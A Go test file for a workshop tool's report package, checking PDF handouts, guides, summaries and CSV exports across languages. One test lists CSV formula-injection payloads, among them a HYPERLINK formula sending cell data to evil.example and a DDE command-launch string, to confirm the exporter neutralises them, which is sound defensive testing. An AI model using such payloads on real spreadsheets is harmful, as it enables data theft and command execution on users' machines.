package report

import (
	"runsheet/workshop/plans"
	"runsheet/workshop/words"
	"slices"

	"bytes"
	"encoding/csv"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"reflect"
	"regexp"
	"runtime"
	"strconv"
	"strings"
	"testing"
	"time"

	"runsheet/workshop"
)

var created = time.Date(2026, 3, 10, 9, 0, 0, 0, time.UTC)

// pdfText writes a document to a file and reads it back with pdftotext,
// returning the text and the page count and size from pdfinfo.
func pdfText(t *testing.T, write func(*bytes.Buffer) error) (text string, pages int, size string) {
	t.Helper()
	for _, tool := range []string{"pdftotext", "pdfinfo"} {
		if _, err := exec.LookPath(tool); err != nil {
			t.Fatalf("%s is needed to read PDFs back: install poppler-utils (make test does)", tool)
		}
	}
	path := pdfFile(t, write)
	out, err := exec.Command("pdftotext", "-enc", "UTF-8", "-layout", path, "-").CombinedOutput()
	if err != nil {
		t.Fatalf("pdftotext: %v\n%s", err, out)
	}
	info, err := exec.Command("pdfinfo", path).CombinedOutput()
	if err != nil {
		t.Fatalf("pdfinfo: %v\n%s", err, info)
	}
	m := regexp.MustCompile(`Pages:\s+(\d+)`).FindStringSubmatch(string(info))
	pages, _ = strconv.Atoi(m[1])
	size = regexp.MustCompile(`Page size:\s+([\d.]+ x [\d.]+) pts`).FindStringSubmatch(string(info))[1]
	return string(out), pages, size
}

// pdfFile writes a document into a file of the test's and returns its path.
func pdfFile(t *testing.T, write func(*bytes.Buffer) error) string {
	t.Helper()
	var buf bytes.Buffer
	if err := write(&buf); err != nil {
		t.Fatal(err)
	}
	path := filepath.Join(t.TempDir(), "doc.pdf")
	if err := os.WriteFile(path, buf.Bytes(), 0o644); err != nil {
		t.Fatal(err)
	}
	return path
}

func expectAll(t *testing.T, doc, text string, want []string) {
	t.Helper()
	flat := strings.Join(strings.Fields(text), " ")
	for _, w := range want {
		if !strings.Contains(flat, w) {
			t.Errorf("%s lacks %q", doc, w)
		}
	}
}

func TestHandoutReadsBack(t *testing.T) {
	plan := plans.Builtin()
	for _, paper := range []struct {
		p    Paper
		size string
	}{{A4, "595.28 x 841.89"}, {Letter, "612 x 792"}} {
		text, pages, size := pdfText(t, func(b *bytes.Buffer) error { return Handout(b, plan, Options{Paper: paper.p, Created: created}) })
		if size != paper.size {
			t.Errorf("%s: page size %s", paper.p, size)
		}
		want := []string{"Participant handout", "Implementing vs Innovating", "Key ideas",
			"Management", "Leadership", "6. integrity", "authenticity and transparency",
			"Managers", "Leaders", "analyse systems and team structures", "analyse individuals", "retain", "develop",
			"Tick one box per line.", "Implement", "Innovate", "Sets next quarter's objectives",
			"Tick one number per line. 1 = Rarely … 5 = Always", "Empathy", "Ballot sheet 1 of 5 · tear off and hand in",
			"Your ballot is sheet 2 at the end of this handout", "Group", "Name", "4 minutes · Vote", "Round 3: Retain or develop",
			"Next month I will use more of", "Across: 1 = Implement … 5 = Innovate", "Up: 1 = Systems … 5 = People",
			"Tick one number on each of the two lines per item.", "Coaching someone into their first lead role", "Page 1 of " + strconv.Itoa(pages), "Page " + strconv.Itoa(pages) + " of " + strconv.Itoa(pages)}
		for _, ex := range plan.Exercises {
			want = append(want, ex.Title)
		}
		expectAll(t, "handout on "+string(paper.p), text, want)
		if strings.Contains(text, "Reveal after each item") {
			t.Error("the handout prints the facilitator's private notes")
		}
		if strings.Contains(text, "→ Implement") || strings.Contains(text, "expected") {
			t.Error("the handout gives away the expected answers")
		}
	}
}

func TestGuideReadsBack(t *testing.T) {
	start, err := ParseStart("13:30")
	if err != nil {
		t.Fatal(err)
	}
	text, _, _ := pdfText(t, func(b *bytes.Buffer) error { return Guide(b, plans.Builtin(), start, Options{Created: created}) })
	expectAll(t, "guide", text, []string{"Facilitator guide", "13:30 to 14:42", "13:30", "to 13:40", "to 13:44",
		"Two words, two jobs", "Write those four on the flip chart", "1. Sets next quarter's objectives Implement", "Your notes", "1 = Rarely … 5 = Always", "Round 2: Systems or individuals",
		"Keep people on track · Lead people somewhere new", "Across: 1 = Implement … 5 = Innovate",
		"Total 72 minutes (1 h 12 min) · ends 14:42"})
	if _, err := ParseStart("25:99"); err == nil {
		t.Error("25:99 accepted as a start time")
	}

	// The German workshop's guide is in German, its kinds whole words.
	var german *workshop.Plan
	for _, p := range plans.Builtins() {
		if p.Language == "de" {
			german = p
		}
	}
	text, _, _ = pdfText(t, func(b *bytes.Buffer) error { return Guide(b, german, start, Options{Created: created}) })
	expectAll(t, "German guide", text, []string{"Leitfaden für die Moderation", "8 Übungen · 72 Minuten · 13:30 bis 14:42", "bis 13:40",
		"Zeit", "Art", "Ihre Notizen", "Abstimmung", "Erwartet", "Seite 1 von", "Implementieren"})
	// The total closes the table only where it fits: a page holding only
	// the total is not printed.
	pagesText := strings.Split(strings.TrimRight(text, "\f\n"), "\f")
	if last := pagesText[len(pagesText)-1]; strings.Contains(last, "Insgesamt") &&
		!slices.ContainsFunc(german.Exercises, func(e workshop.Exercise) bool { return strings.Contains(last, e.Title) }) {
		t.Error("the German guide's total took a page of its own")
	}
	if strings.Contains(text, "Implementier-") || strings.Contains(text, "Implementie\n") {
		t.Error("the answer column cuts Implementieren")
	}
	if strings.Contains(text, "Abstimm\n") {
		t.Error("the kind column breaks Abstimmung")
	}
}

func fixtureSessionFromFile(t *testing.T) *workshop.Session {
	t.Helper()
	f, err := os.Open(fixture)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	s, err := ReadJSON(f)
	if err != nil {
		t.Fatal(err)
	}
	return s
}

func TestSummaryReadsBack(t *testing.T) {
	sess := fixtureSessionFromFile(t)
	text, _, _ := pdfText(t, func(b *bytes.Buffer) error { return Summary(b, sess, Options{Created: created}) })
	expectAll(t, "summary", text, []string{"Session summary", "Group: Sales leads, Łódź", "Facilitator: Ana Müller",
		"Headcount: 24", "Tuesday 10 March 2026", "Time", "Planned", "Actual", "Over / under", "Total",
		"At a glance", "Participants: 24 · response rate 92%", "Time: 72 min planned, 30 min taken (−42 min)",
		"1. Sets next quarter's objectives Implement 73% ✓ 73% chose Implement", "No votes on items 2, 3, 4, 5",
		"2. Warm-up: what does your week need? 4 min skipped",
		"1. Sets next quarter's objectives", "16 · 73% ✓ expected", "6 · 27%",
		"22 votes on 1 item: room 20, paper 0, phones 2; headcount 24.", "The group's profile",
		"Items with an expected answer that were voted on: 1 item, 22 votes in all.",
		"Split on the rota item: \"it depends\".", "room (show of hands)", "paper ballots", "phones"})
}

func TestSummarySaysWhenCountsWereCorrected(t *testing.T) {
	sess := fixtureSessionFromFile(t)
	text, _, _ := pdfText(t, func(b *bytes.Buffer) error { return Summary(b, sess, Options{Created: created}) })
	if strings.Contains(text, "corrected after the session") {
		t.Fatal("an uncorrected session's summary says it was corrected")
	}
	at := sess.State.Finished.Add(26 * time.Hour)
	e := workshop.Event{Kind: workshop.EventTally, Exercise: 2, Item: 0, Option: 0, Source: workshop.SourcePaper, Count: 3, Correction: true, At: at}
	if err := sess.Record(e); err != nil {
		t.Fatal(err)
	}
	text, _, _ = pdfText(t, func(b *bytes.Buffer) error { return Summary(b, sess, Options{Created: created}) })
	expectAll(t, "corrected summary", text, []string{"Counts corrected after the session on " + at.Format("2 January 2006 at 15:04"),
		"25 votes on 1 item: room 20, paper 3, phones 2"})
}

// A break added on the day is in the summary's time table and overview
// and in the guide of the agenda as run, marked as added; a count made before the insert, on an exercise after
// it, stays with its exercise in the CSV.
func TestSummaryAndCSVShowWhatWasAddedOnTheDay(t *testing.T) {
	orig := fixtureSessionFromFile(t)
	sess := &workshop.Session{ID: orig.ID, Group: orig.Group, Created: orig.Created, Plan: orig.Plan, State: workshop.NewState(orig.Plan)}
	for _, e := range orig.Events {
		if e.Kind == workshop.EventFinished {
			break
		}
		if err := sess.Record(e); err != nil {
			t.Fatal(err)
		}
	}
	at := orig.State.Finished
	later := -1
	for i := sess.State.Current + 1; i < len(sess.Plan.Exercises); i++ {
		if sess.Plan.Exercises[i].Kind == workshop.KindVote {
			later = i
			break
		}
	}
	if later < 0 {
		t.Fatal("the fixture has no vote after the exercise it stopped on")
	}
	brk := workshop.Break(10, words.For(words.English))
	brk.Title = "Coffee"
	for _, e := range []workshop.Event{
		{Kind: workshop.EventTally, Exercise: later, Item: 0, Option: 1, Source: workshop.SourcePaper, Count: 5},
		sess.State.InsertEvent(brk),
		{Kind: workshop.EventFinished},
	} {
		e.At = at
		if err := sess.Record(e); err != nil {
			t.Fatal(err)
		}
	}
	text, _, _ := pdfText(t, func(b *bytes.Buffer) error { return Summary(b, sess, Options{Created: created}) })
	n := sess.State.Current + 2
	expectAll(t, "summary", text, []string{fmt.Sprintf("%d. Coffee (added on the day) 10 min skipped", n),
		"Time: 82 min planned (10 min of it added on the day)"})

	guide, _, _ := pdfText(t, func(b *bytes.Buffer) error { return Guide(b, sess.State.Plan, 9*time.Hour, Options{Created: created}) })
	// The title block counts the break added on the day; the closing
	// total line repeats it only where the last page has room for it.
	expectAll(t, "guide", guide, []string{fmt.Sprintf("%d. Coffee (added on the day)", n), "82 minutes · 09:00 to 10:22"})

	rows := csvRows(t, sess)
	ex := sess.Plan.Exercises[later]
	want := strings.Join([]string{fmt.Sprint(later + 2), ex.Title, "1", ex.Items[0].Text, ex.Options[1], "paper ballot", "", "5"}, "|")
	found := false
	for _, r := range rows[1:] {
		found = found || strings.Join(r[2:10], "|") == want
	}
	if !found {
		t.Errorf("no row %s in\n%v", want, rows)
	}

	// The session file carries the insert and reads back to the same agenda.
	var buf bytes.Buffer
	if err := WriteJSON(&buf, sess); err != nil {
		t.Fatal(err)
	}
	back, err := ReadJSON(&buf)
	if err != nil {
		t.Fatal(err)
	}
	if !reflect.DeepEqual(back.State.Plan.Exercises, sess.State.Plan.Exercises) || len(back.Plan.Exercises) != len(sess.Plan.Exercises) {
		t.Errorf("the agenda read back differs:\n%+v\n%+v", back.State.Plan.Exercises, sess.State.Plan.Exercises)
	}
}

func TestDocumentsAreByteStable(t *testing.T) {
	sess := fixtureSessionFromFile(t)
	for name, write := range map[string]func(*bytes.Buffer) error{
		"handout": func(b *bytes.Buffer) error { return Handout(b, sess.Plan, Options{Created: created}) },
		"guide":   func(b *bytes.Buffer) error { return Guide(b, sess.Plan, 9*time.Hour, Options{Created: created}) },
		"summary": func(b *bytes.Buffer) error { return Summary(b, sess, Options{Created: created}) },
	} {
		var a, b bytes.Buffer
		if err := write(&a); err != nil {
			t.Fatal(err)
		}
		if err := write(&b); err != nil {
			t.Fatal(err)
		}
		if !bytes.Equal(a.Bytes(), b.Bytes()) {
			t.Errorf("%s differs between two runs", name)
		}
	}
}

func TestHostileTextGivesAValidPDF(t *testing.T) {
	plan := plans.Builtin()
	long := strings.Repeat("Łukasz Żółć ", 850) // over 10,000 characters
	plan.Title = "100% \\ (sure) " + long
	plan.Exercises[0].Brief = "Ελληνικά, кириллица, Polski: zażółć gęślą jaźń. Right to left: שלום עולם مرحبا. Emoji 🙂🚀, newer 🪀. Controls \x01\x1b here. Brackets ( ) \\ %d %s %%"
	plan.Exercises[2].Items[0].Text = long
	var warnings []string
	opts := Options{Created: created, Warn: func(rs []rune) { warnings = append(warnings, CodePoints(rs)) }}
	text, pages, _ := pdfText(t, func(b *bytes.Buffer) error { return Handout(b, plan, opts) })
	if pages < 3 {
		t.Errorf("a very long plan fits %d pages", pages)
	}
	expectAll(t, "hostile handout", text, []string{"100% \\ (sure) Łukasz Żółć", "Ελληνικά, кириллица, Polski: zażółć gęślą jaźń.",
		"Brackets ( ) \\ %d %s %%", "Emoji 🙂🚀, newer . Controls here."})
	if strings.Contains(text, "[U+") {
		t.Error("a character no font covers was printed as a code")
	}
	if len(warnings) == 0 || warnings[0] != "U+1FA80" {
		t.Errorf("an emoji no face prints was left out without a warning, or one it prints was warned of: %v", warnings)
	}

	sess := fixtureSessionFromFile(t)
	sess.Group = "مجموعة " + long
	sess.State.Notes[2] = "Notes with 中文 and \x00 nul"
	text, _, _ = pdfText(t, func(b *bytes.Buffer) error { return Summary(b, sess, opts) })
	expectAll(t, "hostile summary", text, []string{"Łukasz Żółć", "Notes with 中文 and nul"})
}

// csvRows writes a session's CSV and reads it back.
func csvRows(t *testing.T, sess *workshop.Session) [][]string {
	t.Helper()
	var buf bytes.Buffer
	if err := CSV(&buf, sess); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(&buf).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	return rows
}

func TestCSVReadsBack(t *testing.T) {
	sess := fixtureSessionFromFile(t)
	rows := csvRows(t, sess)
	if strings.Join(rows[0], ",") != strings.Join(csvHeader(words.English), ",") {
		t.Errorf("header %v", rows[0])
	}
	// Two room tallies and two phone votes.
	if len(rows) != 5 {
		t.Fatalf("%d rows:\n%v", len(rows), rows)
	}
	want := []string{"20260310-a1b2c3d4e5", "Sales leads, Łódź", "3", "Sort the behaviours", "1", "Sets next quarter's objectives", "Implement", "phone"}
	found := false
	for _, r := range rows[1:] {
		if strings.Join(r[:8], "|") == strings.Join(want, "|") {
			found = true
			if r[8] == "p-7f3a" || !strings.HasPrefix(r[8], "p-") || r[9] != "1" {
				t.Errorf("phone row %v should carry a pseudonym and count 1", r)
			}
		}
	}
	if !found {
		t.Errorf("no phone vote row for Implement:\n%v", rows)
	}
}

// sessionOf builds a session with participants phones voting on every item
// of exercises vote exercises.
func sessionOf(b testing.TB, participants, exercises int) *workshop.Session {
	plan := &workshop.Plan{Title: "Load"}
	for i := range exercises {
		plan.Exercises = append(plan.Exercises, workshop.Exercise{Kind: workshop.KindVote, Title: "Exercise " + strconv.Itoa(i+1), Minutes: 2,
			Options: []string{"Implement", "Innovate"}, Items: []workshop.Item{{Text: "Question", Expect: "Implement"}}})
	}
	s, err := workshop.NewSession(plan, "Big room", "", created)
	if err != nil {
		b.Fatal(err)
	}
	for ei := range exercises {
		s.Record(workshop.Event{Kind: workshop.EventHeadcount, Exercise: ei, Count: participants, At: created})
		s.Record(workshop.Event{Kind: workshop.EventOpened, Exercise: ei, At: created})
		for p := range participants {
			if err := s.Record(workshop.Event{Kind: workshop.EventVote, Exercise: ei, Option: p % 2, Participant: "p" + strconv.Itoa(p), At: created}); err != nil {
				b.Fatal(err)
			}
		}
	}
	return s
}

// BenchmarkSummary times the summary of 2,000 phones voting on 30
// exercises and reports the peak heap in use while making it.
func BenchmarkSummary(b *testing.B) {
	sess := sessionOf(b, 2000, 30)
	runtime.GC()
	var before runtime.MemStats
	runtime.ReadMemStats(&before)
	b.ResetTimer()
	for range b.N {
		if err := Summary(&bytes.Buffer{}, sess, Options{Created: created}); err != nil {
			b.Fatal(err)
		}
	}
	b.StopTimer()
	var after runtime.MemStats
	runtime.ReadMemStats(&after)
	b.ReportMetric(float64(after.HeapSys)/(1<<20), "heap-sys-MB")
}

// BenchmarkHandout times the built-in plan's handout.
func BenchmarkHandout(b *testing.B) {
	plan := plans.Builtin()
	for range b.N {
		if err := Handout(&bytes.Buffer{}, plan, Options{Created: created}); err != nil {
			b.Fatal(err)
		}
	}
}

// The handout is in the room's language: the plan's, or the one asked for.
func TestHandoutInTheRoomsLanguage(t *testing.T) {
	plan := plans.Builtin()
	plan.Language = "pl"
	text, pages, _ := pdfText(t, func(b *bytes.Buffer) error { return Handout(b, plan, Options{Created: created}) })
	expectAll(t, "Polish handout", text, []string{"Materiały dla uczestników", "Imię i nazwisko", "Kluczowe idee",
		"15 minut · Dyskusja", "4 minuty · Głosowanie", "Runda 2:", "Karta do głosowania 1 z", "oderwij i oddaj",
		"Zaznacz jedno pole w każdym wierszu.", fmt.Sprintf("Strona 1 z %d", pages)})
	if strings.Contains(text, "Participant handout") || strings.Contains(text, "Tick one box") {
		t.Error("English words left in the Polish handout")
	}
	text, _, _ = pdfText(t, func(b *bytes.Buffer) error {
		return Handout(b, plan, Options{Created: created, Language: "de"})
	})
	expectAll(t, "German handout", text, []string{"Teilnehmerunterlage", "Kernideen", "15 Minuten · Diskussion", "Seite 1 von"})
}

// The summary and the CSV's column names are in the session's language,
// with its dates, plurals, percentages and decimal commas.
func TestSummaryInTheSessionsLanguage(t *testing.T) {
	sess := fixtureSessionFromFile(t)
	sess.State.Language = "de"
	text, pages, _ := pdfText(t, func(b *bytes.Buffer) error { return Summary(b, sess, Options{Created: created}) })
	expectAll(t, "German summary", text, []string{"Sitzungsbericht", "Gruppe: Sales leads, Łódź", "Moderation: Ana Müller",
		"Datum: Dienstag, 10. März 2026", "Teilnehmende: 24", "Auf einen Blick", "Beteiligung 92 %", "72 Min. geplant",
		"Zeit", "Geplant", "Tatsächlich", "Gesamt", "übersprungen",
		"22 Stimmen zu 1 Punkt: Handzeichen 20, Papier 0, Handys 2; Teilnehmende 24.", "16 · 73 % ✓ erwartet",
		"Das Profil der Gruppe", "Stimmzettel", fmt.Sprintf("Seite 1 von %d", pages)})
	for _, english := range []string{"Session summary", "At a glance", "Headcount", "planned", "votes on"} {
		if strings.Contains(text, english) {
			t.Errorf("English %q left in the German summary", english)
		}
	}

	sess.State.Language = "pl"
	text, _, _ = pdfText(t, func(b *bytes.Buffer) error { return Summary(b, sess, Options{Created: created}) })
	expectAll(t, "Polish summary", text, []string{"Podsumowanie sesji", "Data: wtorek, 10 marca 2026", "W skrócie",
		"22 głosy na 1 pozycję: ręce 20, kartki 0, telefony 2"})

	rows := csvRows(t, sess)
	if got := strings.Join(rows[0], ","); got != "sesja,grupa,ćwiczenie,tytuł ćwiczenia,pozycja,treść pozycji,odpowiedź,źródło,uczestnik,liczba,czas,poziomo,pionowo,id źródła" {
		t.Errorf("Polish CSV header %q", got)
	}
}

// An Arabic handout is laid out right to left: the title ends at the
// right margin, where an English one starts at the left.
func TestArabicHandoutIsMirrored(t *testing.T) {
	plan := plans.Builtin()
	for _, c := range []struct {
		lang      string
		fromRight bool
	}{{"en", false}, {"ar", true}} {
		path := pdfFile(t, func(b *bytes.Buffer) error { return Handout(b, plan, Options{Created: created, Language: c.lang}) })
		out, err := exec.Command("pdftotext", "-bbox", "-f", "1", "-l", "1", path, "-").Output()
		if err != nil {
			t.Fatalf("pdftotext -bbox: %v", err)
		}
		m := regexp.MustCompile(`<page width="([\d.]+)"[\s\S]*?<word xMin="([\d.]+)" yMin="[\d.]+" xMax="([\d.]+)"[^>]*>Implementing</word>`).FindSubmatch(out)
		if m == nil {
			t.Fatalf("%s: no title on page 1", c.lang)
		}
		width, _ := strconv.ParseFloat(string(m[1]), 64)
		xMin, _ := strconv.ParseFloat(string(m[2]), 64)
		margin := marginSide / 25.4 * 72
		title := regexp.MustCompile(`xMax="([\d.]+)"[^>]*>Innovating</word>`).FindSubmatch(out)
		if title == nil {
			t.Fatalf("%s: the title's last word is missing", c.lang)
		}
		xMax, _ := strconv.ParseFloat(string(title[1]), 64)
		atLeft, atRight := xMin-margin < 3, width-margin-xMax < 3
		if c.fromRight != atRight || c.fromRight == atLeft {
			t.Errorf("%s: title from %.0f to %.0f pt on a page %.0f wide (margins %.0f): at the left %v, at the right %v",
				c.lang, xMin, xMax, width, margin, atLeft, atRight)
		}
	}
}

// Phone ballots beyond the headcount are flagged as such in the summary,
// not only as a miscount: phones that are not in the room.
func TestSummaryFlagsPhonesBeyondTheHeadcount(t *testing.T) {
	sess := sessionOf(t, 3, 1)
	if err := sess.Record(workshop.Event{Kind: workshop.EventHeadcount, Exercise: 0, Count: 2, At: created}); err != nil {
		t.Fatal(err)
	}
	text, _, _ := pdfText(t, func(b *bytes.Buffer) error { return Summary(b, sess, Options{Created: created}) })
	expectAll(t, "summary", text, []string{"3 phone ballots but 2 people — phones not in the room, or one person on several devices."})
}

// A text that a spreadsheet would run as a formula is written with a
// leading apostrophe, and reads back as the text it was, apostrophe first;
// others are written as they are.
func TestCSVNeutralisesFormulas(t *testing.T) {
	formulas := []string{`=HYPERLINK("http://evil.example/?"&A1,"Click")`, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\tTab", "\rReturn"}
	plan := &workshop.Plan{Title: "T", Exercises: []workshop.Exercise{{Kind: workshop.KindVote, Title: "=1+1", Minutes: 5,
		Options: []string{formulas[0], "Plain"}, Items: []workshop.Item{{Text: formulas[1]}, {Text: formulas[2]}, {Text: formulas[3]}, {Text: formulas[4]}, {Text: formulas[5]}, {Text: "Fine - not a formula"}}}}}
	sess, err := workshop.NewSession(plan, "@group", "", created)
	if err != nil {
		t.Fatal(err)
	}
	for i := range plan.Exercises[0].Items {
		if err := sess.Record(workshop.Event{Kind: workshop.EventTally, At: created, Item: i, Option: 0, Source: workshop.SourceRoom, Count: 1}); err != nil {
			t.Fatal(err)
		}
	}
	rows := csvRows(t, sess)
	if len(rows) != 7 {
		t.Fatalf("%d rows", len(rows))
	}
	for i, r := range rows[1:] {
		if r[1] != "'@group" || r[3] != "'=1+1" || r[6] != "'"+formulas[0] {
			t.Errorf("row %d: group %q, exercise %q, option %q", i+1, r[1], r[3], r[6])
		}
		// (A carriage return is written as the line break it is.)
		want := "'" + strings.ReplaceAll(plan.Exercises[0].Items[i].Text, "\r", "\n")
		if i == 5 {
			want = "Fine - not a formula"
		}
		if r[5] != want {
			t.Errorf("row %d: item %q, want %q", i+1, r[5], want)
		}
		for j, cell := range r {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("row %d, column %d starts a formula: %q", i+1, j+1, cell)
			}
		}
	}
}

// A merge has no times of its own (its events carry the moment of the
// merge): its summary gives the merge's date without a span of hours, no
// time taken and no time table; its rooms are listed with their dates.
func TestMergedSummaryClaimsNoTimes(t *testing.T) {
	a := fixtureSessionFromFile(t)
	b := fixtureSessionFromFile(t)
	b.ID = "20260310-b1b2c3d4e5"
	b.Group = "Second room"
	merged, err := workshop.Merge([]*workshop.Session{a, b}, "Both", time.Date(2026, 3, 11, 23, 59, 0, 0, time.UTC))
	if err != nil {
		t.Fatal(err)
	}
	text, _, _ := pdfText(t, func(buf *bytes.Buffer) error { return Summary(buf, merged, Options{Created: created}) })
	flat := strings.Join(strings.Fields(text), " ")
	for _, bad := range []string{"taken (", "Over / under", "23:59–23:59", "Actual"} {
		if strings.Contains(flat, bad) {
			t.Errorf("the merged summary claims times: %q in %s", bad, flat)
		}
	}
	for _, want := range []string{"Merged from:", "Sales leads, Łódź", "Second room", "Date: Wednesday 11 March 2026"} {
		if !strings.Contains(flat, want) {
			t.Errorf("the merged summary lacks %q: %s", want, flat)
		}
	}
}
